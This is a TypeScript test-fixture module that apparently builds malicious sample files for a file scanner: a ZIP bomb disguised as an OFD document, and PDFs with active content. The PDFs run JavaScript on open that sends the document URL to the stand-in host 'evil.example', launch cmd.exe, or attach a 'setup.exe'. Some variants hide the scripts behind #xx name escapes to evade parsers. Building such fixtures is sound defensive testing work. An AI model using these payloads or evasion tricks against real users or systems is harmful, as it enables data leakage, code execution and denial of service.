import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { zip } from './sample-files.js';

const OFD_ROOT = {
  name: 'OFD.xml',
  content:
    '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
};

/** 64 MiB of zeros deflated into a ~64 KiB ZIP, with or without the OFD.xml that makes a ZIP an OFD. */
export const zipBomb = (asOfd: boolean) =>
  zip([
    ...(asOfd ? [OFD_ROOT] : []),
    { name: 'Doc_0/Res/bomb.xml', content: Buffer.alloc(64 * 1024 * 1024), deflate: true },
  ]);

/** What a PDF does on its own: the kinds of active content a viewer would act on. */
export type PdfActivity =
  | 'javascript'
  | 'escaped-javascript'
  | 'disguised-object-stream'
  | 'launch'
  | 'embedded-file'
  | 'goto-and-link';

/**
 * A real PDF made with pdf-lib that acts when opened: JavaScript on opening (/OpenAction) and
 * on a page (/AA), a program launched, or an attached file; or, for contrast, only an opening
 * view (/OpenAction to a page) and a web link, which are harmless. Objects are packed in object
 * streams, as pdf-lib saves by default, but for `escaped-javascript`: the same scripts with their
 * names spelt in lower-case #xx escapes (/#4aavaScript, /#4aS), which viewers read as /JavaScript.
 * `disguised-object-stream` packs the scripts in object streams typed /#4fbjStm (/ObjStm to a
 * viewer), which a parser that does not decode the escape never unpacks.
 */
export async function activePdf(activity: PdfActivity = 'javascript'): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const action = (S: string, more: Record<string, unknown>) => doc.context.obj({ S, ...more });
  if (
    activity === 'javascript' ||
    activity === 'escaped-javascript' ||
    activity === 'disguised-object-stream'
  ) {
    const script = () =>
      action('JavaScript', { JS: PDFString.of("app.launchURL('https://evil.example/?'+this.URL)") });
    doc.catalog.set(PDFName.of('OpenAction'), script());
    page.node.set(PDFName.of('AA'), doc.context.obj({ O: script() }));
  } else if (activity === 'launch') {
    doc.catalog.set(PDFName.of('OpenAction'), action('Launch', { F: PDFString.of('cmd.exe') }));
  } else if (activity === 'embedded-file') {
    await doc.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'application/octet-stream' });
  } else {
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([page.ref, 'Fit']));
    const link = doc.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 100, 20],
      A: action('URI', { URI: PDFString.of('https://www.foshan.gov.cn/') }),
    });
    page.node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  }
  if (activity === 'disguised-object-stream')
    return Buffer.from(
      Buffer.from(await doc.save())
        .toString('latin1')
        .replaceAll('/ObjStm', '/#4fbjStm'),
      'latin1',
    );
  if (activity !== 'escaped-javascript') return Buffer.from(await doc.save());
  const plain = Buffer.from(await doc.save({ useObjectStreams: false })).toString('latin1');
  return Buffer.from(plain.replaceAll('/JavaScript', '/#4aavaScript').replaceAll('/JS ', '/#4aS '), 'latin1');
}
